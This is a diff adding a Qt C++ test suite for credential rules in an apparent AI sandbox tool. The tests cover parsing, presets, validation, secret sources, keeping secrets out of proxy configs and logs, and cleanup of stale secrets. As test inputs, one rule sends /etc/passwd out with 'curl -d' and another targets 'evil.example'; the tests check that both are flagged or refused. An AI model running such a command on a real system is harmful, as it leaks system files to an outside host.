@@ -1,0 +1,519 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+// [[credentials]] rules (issue 19): parsing, canonical saving, presets, validation, review.
+#include "maintenance/sessionreaper.h"
+#include "policy/credentials.h"
+#include "policy/credentialstore.h"
+#include "policy/policyfile.h"
+#include "policy/policyreview.h"
+#include "policy/validation.h"
+#include "render/render.h"
+#include "session/credentialsources.h"
+#include "session/gateevent.h"
+#include "session/sessionlog.h"
+
+#include <QDateTime>
+#include <QElapsedTimer>
+#include <QProcessEnvironment>
+#include <QTemporaryDir>
+#include <QTest>
+
+using namespace aisb;
+
+namespace {
+
+const PolicyIssue *issueFor(const QList<PolicyIssue> &issues, const QString &field)
+{
+    for (const PolicyIssue &i : issues) {
+        if (i.field == field)
+            return &i;
+    }
+    return nullptr;
+}
+
+QString describe(const QList<PolicyIssue> &issues)
+{
+    QStringList out;
+    for (const PolicyIssue &i : issues)
+        out << i.field + QStringLiteral(": ") + i.message;
+    return out.join(QLatin1Char('\n'));
+}
+
+Policy::Credential rule(const QString &name, const QString &preset, const QString &source)
+{
+    Policy::Credential c;
+    c.name = name;
+    c.preset = preset;
+    c.source = source;
+    return c;
+}
+
+const QByteArray kTwoRules = "[network]\n"
+                             "allow = [\"example.com\"]\n"
+                             "\n"
+                             "[[credentials]]\n"
+                             "name = \"anthropic\"\n"
+                             "preset = \"anthropic\"\n"
+                             "source = \"keyring:anthropic\"\n"
+                             "\n"
+                             "[[credentials]]\n"
+                             "name = \"gateway\"\n"
+                             "host = \"ai.corp.example\"\n"
+                             "header = \"Authorization\"\n"
+                             "format = \"Bearer {value}\"\n"
+                             "source = \"env:CORP_KEY\"\n"
+                             "env = [\"CORP_AI_KEY\"]\n"
+                             "base_url_env = \"CORP_AI_URL\"\n";
+
+class MapStore : public CredentialStore
+{
+public:
+    QString backendName() const override { return QStringLiteral("test map"); }
+    std::optional<QString> read(const QString &name, QString *error) const override
+    {
+        if (!values.contains(name)) {
+            *error = QStringLiteral("no such entry");
+            return std::nullopt;
+        }
+        return values.value(name);
+    }
+    bool write(const QString &name, const QString &value, QString *) override
+    {
+        values.insert(name, value);
+        return true;
+    }
+    bool remove(const QString &name, QString *) override { return values.remove(name) > 0; }
+    QStringList names() const override { return values.keys(); }
+    QMap<QString, QString> values;
+};
+
+} // namespace
+
+class TestCredentials : public QObject
+{
+    Q_OBJECT
+private Q_SLOTS:
+    void parsesAndSavesCanonically()
+    {
+        QList<PolicyIssue> issues;
+        const PolicyLayer layer =
+            PolicyFile::parse(kTwoRules, Layer::Project, QStringLiteral("p.toml"), issues);
+        QVERIFY2(issues.isEmpty(), qPrintable(describe(issues)));
+        QVERIFY(layer.fields.contains(QStringLiteral("credentials")));
+        QCOMPARE(layer.values.credentials.size(), 2);
+        const Policy::Credential &a = layer.values.credentials[0];
+        QCOMPARE(a.name, QStringLiteral("anthropic"));
+        QCOMPARE(a.preset, QStringLiteral("anthropic"));
+        QCOMPARE(a.source, QStringLiteral("keyring:anthropic"));
+        QVERIFY(a.host.isEmpty()); // the file keeps what was written; the preset fills in at use
+        const Policy::Credential &g = layer.values.credentials[1];
+        QCOMPARE(g.env, QStringList{QStringLiteral("CORP_AI_KEY")});
+        QCOMPARE(g.baseUrlEnv, QStringLiteral("CORP_AI_URL"));
+        // The same bytes back: written in file order, keys in a fixed order.
+        QCOMPARE(PolicyFile::serialize(layer.values, layer.fields), kTwoRules);
+        // And the string form (-o credentials=...) round-trips too.
+        Policy viaString = defaultPolicy();
+        QList<PolicyIssue> setIssues;
+        QVERIFY(setPolicyFieldFromString(QStringLiteral("credentials"),
+                                         policyFieldToString(QStringLiteral("credentials"), layer.values),
+                                         viaString, setIssues));
+        QVERIFY2(setIssues.isEmpty(), qPrintable(describe(setIssues)));
+        QCOMPARE(viaString.credentials, layer.values.credentials);
+        QVERIFY2(validate(layer.values).isEmpty(), qPrintable(describe(validate(layer.values))));
+    }
+
+    void emptyListChangesNothing()
+    {
+        const QByteArray before = PolicyFile::serialize(defaultPolicy());
+        QVERIFY(!before.contains("credentials"));
+        Policy p = defaultPolicy();
+        p.credentials.clear();
+        QCOMPARE(PolicyFile::serialize(p), before);
+        // Only the credentials field of a policy without rules: nothing at all.
+        QCOMPARE(PolicyFile::serialize(p, {QStringLiteral("credentials")}), QByteArray());
+    }
+
+    void presetsFillWhatIsNotGiven_data()
+    {
+        QTest::addColumn<QString>("preset");
+        QTest::addColumn<QString>("host");
+        QTest::addColumn<QString>("header");
+        QTest::addColumn<QString>("format");
+        QTest::addColumn<QString>("env");
+        QTest::addColumn<QString>("baseUrlEnv");
+        QTest::newRow("anthropic") << "anthropic"
+                                   << "api.anthropic.com"
+                                   << "x-api-key"
+                                   << "{value}"
+                                   << "ANTHROPIC_API_KEY"
+                                   << "ANTHROPIC_BASE_URL";
+        QTest::newRow("openai") << "openai"
+                                << "api.openai.com"
+                                << "Authorization"
+                                << "Bearer {value}"
+                                << "OPENAI_API_KEY"
+                                << "OPENAI_BASE_URL";
+        QTest::newRow("google") << "google"
+                                << "generativelanguage.googleapis.com"
+                                << "x-goog-api-key"
+                                << "{value}"
+                                << "GEMINI_API_KEY,GOOGLE_API_KEY"
+                                << "GOOGLE_GEMINI_BASE_URL";
+        QTest::newRow("github") << "github"
+                                << "api.github.com"
+                                << "Authorization"
+                                << "Bearer {value}"
+                                << "GH_TOKEN,GITHUB_TOKEN"
+                                << "GITHUB_API_URL";
+    }
+    void presetsFillWhatIsNotGiven()
+    {
+        QFETCH(QString, preset);
+        QFETCH(QString, host);
+        QFETCH(QString, header);
+        QFETCH(QString, format);
+        QFETCH(QString, env);
+        QFETCH(QString, baseUrlEnv);
+        QVERIFY(Credentials::presetNames().contains(preset));
+        const Policy::Credential e =
+            Credentials::effective(rule(QStringLiteral("r"), preset, QStringLiteral("env:X")));
+        QCOMPARE(e.host, host);
+        QCOMPARE(e.header, header);
+        QCOMPARE(e.format, format);
+        QCOMPARE(e.env, env.split(QLatin1Char(',')));
+        QCOMPARE(e.baseUrlEnv, baseUrlEnv);
+        QCOMPARE(e.source, QStringLiteral("env:X"));
+        // A field given explicitly wins over the preset.
+        Policy::Credential custom = rule(QStringLiteral("r"), preset, QStringLiteral("env:X"));
+        custom.host = QStringLiteral("gateway.corp.example");
+        custom.format = QStringLiteral("Token {value}");
+        const Policy::Credential c = Credentials::effective(custom);
+        QCOMPARE(c.host, QStringLiteral("gateway.corp.example"));
+        QCOMPARE(c.format, QStringLiteral("Token {value}"));
+        QCOMPARE(c.header, header);
+        QCOMPARE(Credentials::headerValue(c, QStringLiteral("s3cr3t")), QStringLiteral("Token s3cr3t"));
+    }
+
+    // Each bad field: an issue naming exactly that field, whose message says what to write.
+    void validationNamesTheFieldAndTheFix_data()
+    {
+        QTest::addColumn<QString>("toml");
+        QTest::addColumn<QString>("field");
+        QTest::addColumn<QString>("fix");
+        const auto row = [](const char *tag, const char *body, const char *field, const char *fix) {
+            QTest::newRow(tag) << QString::fromUtf8(body) << QString::fromUtf8(field)
+                               << QString::fromUtf8(fix);
+        };
+        row("name empty", "preset = \"openai\"\nsource = \"env:K\"", "credentials[0].name", "name = ");
+        row("name with space", "name = \"a b\"\npreset = \"openai\"\nsource = \"env:K\"",
+            "credentials[0].name", "name = ");
+        row("unknown preset", "name = \"a\"\npreset = \"acme\"\nsource = \"env:K\"", "credentials[0].preset",
+            "anthropic, openai, google, github");
+        row("no host", "name = \"a\"\nheader = \"x-k\"\nformat = \"{value}\"\nsource = \"env:K\"",
+            "credentials[0].host", "host = ");
+        row("domain host", "name = \"a\"\npreset = \"openai\"\nhost = \".openai.com\"\nsource = \"env:K\"",
+            "credentials[0].host", "one host");
+        row("bad host", "name = \"a\"\npreset = \"openai\"\nhost = \"api openai.com\"\nsource = \"env:K\"",
+            "credentials[0].host", "host = ");
+        row("header Host", "name = \"a\"\npreset = \"openai\"\nheader = \"Host\"\nsource = \"env:K\"",
+            "credentials[0].header", "Authorization");
+        row("header Content-Length",
+            "name = \"a\"\npreset = \"openai\"\nheader = \"content-length\"\nsource = \"env:K\"",
+            "credentials[0].header", "Authorization");
+        row("header not a token",
+            "name = \"a\"\npreset = \"openai\"\nheader = \"x key:\"\nsource = \"env:K\"",
+            "credentials[0].header", "header = ");
+        row("format without value",
+            "name = \"a\"\npreset = \"openai\"\nformat = \"Bearer\"\nsource = \"env:K\"",
+            "credentials[0].format", "{value}");
+        row("format with percent",
+            "name = \"a\"\npreset = \"openai\"\nformat = \"%{value}\"\nsource = \"env:K\"",
+            "credentials[0].format", "{value}");
+        row("format with quote",
+            "name = \"a\"\npreset = \"openai\"\nformat = \"Bearer \\\"{value}\"\nsource = \"env:K\"",
+            "credentials[0].format", "{value}");
+        row("no source", "name = \"a\"\npreset = \"openai\"", "credentials[0].source", "keyring:NAME");
+        row("unknown source", "name = \"a\"\npreset = \"openai\"\nsource = \"file:/etc/key\"",
+            "credentials[0].source", "env:NAME");
+        row("bad env source", "name = \"a\"\npreset = \"openai\"\nsource = \"env:A-B\"",
+            "credentials[0].source", "env:NAME");
+        row("empty command", "name = \"a\"\npreset = \"openai\"\nsource = \"command: \"",
+            "credentials[0].source", "command:");
+        row("bad keyring", "name = \"a\"\npreset = \"openai\"\nsource = \"keyring:a/b\"",
+            "credentials[0].source", "keyring:NAME");
+        row("bad env", "name = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\nenv = [\"A-B\"]",
+            "credentials[0].env", "letters, digits");
+        row("bad base url env",
+            "name = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\nbase_url_env = \"1X\"",
+            "credentials[0].base_url_env", "letters, digits");
+    }
+    void validationNamesTheFieldAndTheFix()
+    {
+        QFETCH(QString, toml);
+        QFETCH(QString, field);
+        QFETCH(QString, fix);
+        QList<PolicyIssue> issues;
+        const PolicyLayer layer = PolicyFile::parse(
+            QString(QStringLiteral("[[credentials]]\n") + toml + QLatin1Char('\n')).toUtf8(), Layer::User,
+            QStringLiteral("u.toml"), issues);
+        QVERIFY2(issues.isEmpty(), qPrintable(describe(issues)));
+        issues = validate(layer.values);
+        const PolicyIssue *issue = issueFor(issues, field);
+        QVERIFY2(issue, qPrintable(describe(issues)));
+        QVERIFY2(issue->message.contains(fix), qPrintable(issue->message));
+        // One issue, except an unknown preset (it leaves host, header and format empty as well).
+        if (!field.endsWith(QLatin1String(".preset")))
+            QCOMPARE(issues.size(), 1);
+    }
+
+    void duplicateNamesAreRefused()
+    {
+        Policy p = defaultPolicy();
+        p.credentials = {rule(QStringLiteral("key"), QStringLiteral("openai"), QStringLiteral("env:A")),
+                         rule(QStringLiteral("KEY"), QStringLiteral("anthropic"), QStringLiteral("env:B"))};
+        const QList<PolicyIssue> issues = validate(p);
+        QCOMPARE(issues.size(), 1);
+        QCOMPARE(issues.first().field, QStringLiteral("credentials[1].name"));
+        QVERIFY(issues.first().message.contains(QLatin1String("twice")));
+    }
+
+    void parseErrorsNameTheKey()
+    {
+        QList<PolicyIssue> issues;
+        PolicyFile::parse("[[credentials]]\nname = \"a\"\nsecret = \"x\"\n", Layer::User,
+                          QStringLiteral("u.toml"), issues);
+        QCOMPARE(issues.size(), 1);
+        QCOMPARE(issues.first().field, QStringLiteral("credentials[0].secret"));
+        QVERIFY(issues.first().message.startsWith(QLatin1String("u.toml:")));
+        issues.clear();
+        PolicyFile::parse("[[credentials]]\nname = \"a\"\nenv = \"X\"\n", Layer::User,
+                          QStringLiteral("u.toml"), issues);
+        QCOMPARE(issues.size(), 1);
+        QCOMPARE(issues.first().field, QStringLiteral("credentials[0].env"));
+        issues.clear();
+        PolicyFile::parse("[credentials]\nname = \"a\"\n", Layer::User, QStringLiteral("u.toml"), issues);
+        QCOMPARE(issues.size(), 1);
+        QCOMPARE(issues.first().field, QStringLiteral("credentials"));
+        QVERIFY(issues.first().message.contains(QLatin1String("[[credentials]]")));
+    }
+
+    // What the sandbox may spend is never taken from the environment (a project's .envrc).
+    void environmentCannotSetCredentials()
+    {
+        QProcessEnvironment env;
+        env.insert(QStringLiteral("AISB_CREDENTIALS"),
+                   QStringLiteral(
+                       "[{ name = \"x\", host = \"evil.example\", header = \"x-k\", format = \"{value}\", "
+                       "source = \"env:HOME\" }]"));
+        QList<PolicyIssue> issues;
+        const PolicyLayer layer = environmentLayer(env, issues);
+        QVERIFY(!layer.fields.contains(QStringLiteral("credentials")));
+        QVERIFY(layer.values.credentials.isEmpty());
+        QVERIFY(issueFor(issues, QStringLiteral("credentials")));
+    }
+
+    void layersReplaceTheList()
+    {
+        QList<PolicyIssue> issues;
+        const PolicyLayer user =
+            PolicyFile::parse("[[credentials]]\nname = \"a\"\npreset = \"openai\"\nsource = \"env:K\"\n",
+                              Layer::User, QStringLiteral("u.toml"), issues);
+        const PolicyLayer none =
+            PolicyFile::parse("[network]\nallow = []\n", Layer::Project, QStringLiteral("p.toml"), issues);
+        QVERIFY(issues.isEmpty());
+        ResolvedPolicy r = mergeLayers({user, none});
+        QCOMPARE(r.policy.credentials.size(), 1);
+        QVERIFY(r.origin.value(QStringLiteral("credentials")) == Layer::User);
+        const PolicyLayer project = PolicyFile::parse(
+            "[[credentials]]\nname = \"b\"\npreset = \"github\"\nsource = \"command:gh auth token\"\n",
+            Layer::Project, QStringLiteral("p.toml"), issues);
+        r = mergeLayers({user, project});
+        QCOMPARE(r.policy.credentials.size(), 1);
+        QCOMPARE(r.policy.credentials.first().name, QStringLiteral("b"));
+        QVERIFY(r.origin.value(QStringLiteral("credentials")) == Layer::Project);
+    }
+
+    // A project file that introduces a credential, and above all a host command, is highlighted.
+    void reviewHighlightsCredentials()
+    {
+        const QByteArray envRule =
+            "[[credentials]]\nname = \"k\"\npreset = \"openai\"\nsource = \"env:OPENAI\"\n";
+        const QByteArray commandRule = "[[credentials]]\nname = \"k\"\npreset = \"openai\"\nsource = "
+                                       "\"command:curl -d @/etc/passwd x\"\n";
+        PolicyReview review = reviewPolicy(envRule);
+        QVERIFY(review.parses());
+        QCOMPARE(review.items.size(), 1);
+        QCOMPARE(review.items.first().kind, PolicyReview::Kind::Credential);
+        QVERIFY(review.items.first().value.contains(QLatin1String("api.openai.com")));
+        QVERIFY(review.items.first().risky());
+        QVERIFY(review.items.first().risk.contains(QLatin1String("credential")));
+        // Approved as is: no longer a new grant, not flagged again.
+        review = reviewPolicy(envRule, envRule);
+        QVERIFY(!review.items.first().risky());
+        // Changed (the source): flagged again, and a command always with the stronger warning.
+        review = reviewPolicy(commandRule, envRule);
+        QVERIFY(review.items.first().added);
+        QVERIFY(review.items.first().risk.contains(QLatin1String("outside the sandbox")));
+        QVERIFY(review.items.first().value.contains(QLatin1String("command:curl -d @/etc/passwd x")));
+        review = reviewPolicy(commandRule, commandRule);
+        QVERIFY(review.items.first().risk.contains(QLatin1String("outside the sandbox")));
+        QVERIFY(review.text().contains(QLatin1String("  ! credentials: k:")));
+    }
+
+    // Sources: env, command (no shell, stdout trimmed, stderr never shown), keyring.
+    void sourcesAreRead()
+    {
+        const QString secret = QStringLiteral("tok-") + QString::number(QDateTime::currentMSecsSinceEpoch());
+        QProcessEnvironment host;
+        host.insert(QStringLiteral("MY_KEY"), secret);
+        QString error;
+        Policy::Credential c =
+            rule(QStringLiteral("r"), QStringLiteral("openai"), QStringLiteral("env:MY_KEY"));
+        QCOMPARE(CredentialSources::read(c, host, &error), std::optional<QString>(secret));
+        c.source = QStringLiteral("env:NOT_SET_HERE");
+        QVERIFY(!CredentialSources::read(c, host, &error));
+        QVERIFY(error.contains(QLatin1String("NOT_SET_HERE")) && error.contains(QLatin1String("r")));
+        // A command's stdout, trimmed; the argv is split without a shell ($HOME stays literal).
+        c.source = QStringLiteral("command:printf \"  %s\\n\" \"") + secret + QStringLiteral(" $HOME\"");
+        QCOMPARE(CredentialSources::read(c, host, &error),
+                 std::optional<QString>(secret + QStringLiteral(" $HOME")));
+        // A failing command: its stderr (which may hold the value) is not in the message.
+        c.source = QStringLiteral("command:sh -c \"echo ") + secret + QStringLiteral(" >&2; exit 3\"");
+        QVERIFY(!CredentialSources::read(c, host, &error));
+        QVERIFY2(error.contains(QLatin1String("exit code 3")), qPrintable(error));
+        QVERIFY(!error.contains(secret));
+        c.source = QStringLiteral("command:sleep 30");
+        QElapsedTimer t;
+        t.start();
+        QVERIFY(!CredentialSources::read(c, host, &error, 300));
+        QVERIFY2(error.contains(QLatin1String("did not finish")), qPrintable(error));
+        c.source = QStringLiteral("command:/nonexistent/tool");
+        QVERIFY(!CredentialSources::read(c, host, &error));
+        QVERIFY2(error.contains(QLatin1String("could not be started")), qPrintable(error));
+        // Keyring: no backend is a clear error; with one, its value.
+        setCredentialStore(nullptr);
+        c.source = QStringLiteral("keyring:k1");
+        QVERIFY(!CredentialSources::read(c, host, &error));
+        QVERIFY2(error.contains(QLatin1String("no keyring backend")), qPrintable(error));
+        auto store = std::make_shared<MapStore>();
+        store->values.insert(QStringLiteral("k1"), secret);
+        setCredentialStore(store);
+        QCOMPARE(CredentialSources::read(c, host, &error), std::optional<QString>(secret));
+        c.source = QStringLiteral("keyring:k2");
+        QVERIFY(!CredentialSources::read(c, host, &error));
+        QVERIFY(error.contains(QLatin1String("k2")) && error.contains(QLatin1String("test map")));
+        setCredentialStore(nullptr);
+        // The header values of a policy, in order, formatted; the first failure stops it.
+        Policy p = defaultPolicy();
+        p.credentials = {
+            rule(QStringLiteral("a"), QStringLiteral("openai"), QStringLiteral("env:MY_KEY")),
+            rule(QStringLiteral("b"), QStringLiteral("anthropic"), QStringLiteral("env:MY_KEY"))};
+        const auto values = CredentialSources::headerValues(p, host, &error);
+        QVERIFY(values);
+        QCOMPARE(*values, (QList<QString>{QStringLiteral("Bearer ") + secret, secret}));
+        p.credentials[1].source = QStringLiteral("env:MISSING");
+        QVERIFY(!CredentialSources::headerValues(p, host, &error));
+        QVERIFY(error.contains(QLatin1String("rule b")));
+    }
+
+    // The gate's config carries a placeholder; only the secret's lines carry the value.
+    void gateConfigHoldsNoValue()
+    {
+        Policy p = defaultPolicy();
+        p.credentials = {
+            rule(QStringLiteral("anthropic"), QStringLiteral("anthropic"), QStringLiteral("env:K"))};
+        const QList<Render::GateCredential> endpoints = Render::gateCredentials(p, {40124});
+        QCOMPARE(endpoints.size(), 1);
+        QCOMPARE(endpoints.first().host, QStringLiteral("api.anthropic.com"));
+        QCOMPARE(endpoints.first().upstreamPort, quint16(443));
+        const QString secret = QStringLiteral("sk-ant-100%-secret");
+        const QString config = Render::gateConfig(p, 40123, {}, nullptr, {}, endpoints);
+        QVERIFY(
+            config.contains(QLatin1String("http_port 127.0.0.1:40124 accel defaultsite=api.anthropic.com")));
+        QVERIFY(config.contains(QLatin1String("<gate-managed: the value of rule anthropic>")));
+        QVERIFY(config.contains(QLatin1String("include /run/secrets/aisb-credentials.conf")));
+        QVERIFY(!config.contains(QLatin1String("sk-ant")));
+        // A live allowlist change re-renders it with the same endpoints.
+        QCOMPARE(Render::gateCredentialPortsOf(config), QList<quint16>{40124});
+        QVERIFY(!Render::gateConfigUsesCaBundle(config));
+        const QString withCa =
+            Render::gateConfig(p, 40123, {}, nullptr, {}, endpoints, QLatin1String(Render::gateCaBundlePath));
+        QVERIFY(Render::gateConfigUsesCaBundle(withCa));
+        QVERIFY(Render::gateCredentialPortsOf(Render::gateConfig(p, 40123)).isEmpty());
+        QString error;
+        const QByteArray lines = Render::gateCredentialLines(endpoints, {secret}, &error);
+        QVERIFY2(lines.contains("request_header_add x-api-key \"sk-ant-100%%-secret\" aisb_cred_1\n"),
+                 lines.constData());
+        // Nothing that could end the quoted value or the line.
+        for (const QString &bad : {QStringLiteral("a\"b"), QStringLiteral("a\\b"), QStringLiteral("a\nb"),
+                                   QStringLiteral("\u00e9"), QString()}) {
+            QVERIFY(Render::gateCredentialLines(endpoints, {bad}, &error).isEmpty());
+            QVERIFY(error.contains(QLatin1String("anthropic")));
+        }
+        // A rule for a local service goes to its port.
+        p.network.local = {
+            LocalService{QStringLiteral("api.anthropic.com"), QStringLiteral("127.0.0.1"), 18443}};
+        QCOMPARE(Render::gateCredentials(p, {40124}).first().upstreamPort, quint16(18443));
+        // The sandbox's variables: placeholder and endpoint.
+        const auto env = Render::credentialEnvironment(p, {QStringLiteral("10.0.2.2"), 40123}, {40124});
+        QCOMPARE(env, (QList<QPair<QString, QString>>{
+                          {QStringLiteral("ANTHROPIC_API_KEY"), QStringLiteral("gate-managed")},
+                          {QStringLiteral("ANTHROPIC_BASE_URL"), QStringLiteral("http://10.0.2.2:40124")}}));
+        // And the host's variable of that name never reaches the env file.
+        p.env.pass = {QStringLiteral("ANTHROPIC_API_KEY")};
+        QProcessEnvironment host;
+        host.insert(QStringLiteral("ANTHROPIC_API_KEY"), secret);
+        const Render::EnvFile file = Render::envFile(p, host);
+        QVERIFY(!file.content.contains("sk-ant"));
+        QVERIFY(file.rejected.contains(QStringLiteral("ANTHROPIC_API_KEY")));
+    }
+    // The gate's log names the rule a request carried (9th column), never anything else.
+    void logMarksCredentialRequests()
+    {
+        const QByteArray base =
+            "1764968400.123\t127.0.0.1\tTCP_MISS/200\t200\tGET\thttp://api.anthropic.com/v1/"
+            "messages\t127.0.0.1\t512";
+        GateEvent e;
+        QVERIFY(GateEvent::parse(QString::fromLatin1(base + "\tanthropic"), e));
+        QCOMPARE(e.credential, QStringLiteral("anthropic"));
+        QCOMPARE(e.bytes, 512);
+        QVERIFY(GateEvent::parse(QString::fromLatin1(base + "\t-"), e));
+        QVERIFY(e.credential.isEmpty());
+        QVERIFY(GateEvent::parse(QString::fromLatin1(base), e)); // a gate without rules: 8 columns
+        QVERIFY(e.credential.isEmpty());
+        QCOMPARE(e.bytes, 512);
+        const QList<GateEvent> all =
+            GateEvent::parseAll(base + "\tanthropic\n" + base + "\t-\n" + base + "\tgithub\n");
+        QCOMPARE(all.size(), 3);
+        QList<SessionLog::Record> records;
+        for (const GateEvent &g : all) {
+            SessionLog::Record r;
+            r.kind = SessionLog::kindOf(g);
+            r.time = g.time;
+            r.gate = g;
+            records << r;
+        }
+        QCOMPARE(SessionLog::credentialCounts(records), QStringLiteral("anthropic: 1, github: 1"));
+        QCOMPARE(SessionLog::toJson(records[0], QStringLiteral("s"), std::nullopt)
+                     .value(QStringLiteral("credential"))
+                     .toString(),
+                 QStringLiteral("anthropic"));
+        QVERIFY(!SessionLog::toJson(records[1], QStringLiteral("s"), std::nullopt)
+                     .contains(QStringLiteral("credential")));
+        QVERIFY(SessionLog::toText(records[0], std::nullopt).contains(QLatin1String("credential anthropic")));
+    }
+    // The sweep: a gate's secret without its gate goes; others' secrets and live gates' stay.
+    void staleSecretsAreSwept()
+    {
+        PodmanResult listing;
+        listing.exitCode = 0;
+        listing.stdoutData = "aisb-p-s1-gate-credentials\naisb-p-s2-gate-credentials\nsomeone-elses\n"
+                             "aisb-p-s3-gate\n";
+        QCOMPARE(SessionReaper::staleCredentialSecrets(listing, {QStringLiteral("aisb-p-s2-gate")}),
+                 QStringList{QStringLiteral("aisb-p-s1-gate-credentials")});
+        listing.exitCode = 125;
+        QVERIFY(SessionReaper::staleCredentialSecrets(listing, {}).isEmpty());
+    }
+};
+
+QTEST_GUILESS_MAIN(TestCredentials)
+#include "tst_credentials.moc"
